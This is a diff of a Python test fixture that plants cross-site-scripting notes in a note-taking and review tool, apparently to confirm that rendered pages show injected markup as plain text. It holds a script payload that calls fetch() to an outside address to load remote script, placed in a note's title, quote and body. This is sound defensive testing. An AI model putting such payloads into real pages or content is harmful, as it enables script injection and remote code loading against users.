@@ -24,11 +24,23 @@ SCRIPT = "<script>window.__xss=2;fetch('http://203.0.113.9/script')</script>"
 QUESTION = "Do hostile momentum notes sneak scripts into reviews?"
 
 
+HOSTILE = f"Hostile momentum notes sneak scripts into reviews {SCRIPT} and {IMG}."
+
+
 def write_hostile_notes(root: Path) -> None:
+    # The hostile sentence is a quote found in its source, so the answer restates it and
+    # every page shows it (as text).
+    (root / "sources" / "xss.txt").write_text(f"Intro. {HOSTILE} Outro.", encoding="utf-8")
     notes = {
         ".zettelkasten/finance/z-xss-01.md": (
-            {"id": "z-xss-01", "type": "finding", "title": f"{IMG} Hostile momentum notes"},
-            f"Hostile momentum notes sneak scripts into reviews {SCRIPT} and {IMG}.",
+            {
+                "id": "z-xss-01",
+                "type": "finding",
+                "title": f"{IMG} Hostile momentum notes",
+                "source": "xss",
+                "quotes": [{"id": "q1", "body": HOSTILE, "page": 1}],
+            },
+            HOSTILE,
         ),
         ".memory/exp-xss.md": (
             {"id": "exp-xss", "type": "experiment", "title": f"{IMG} practice"},
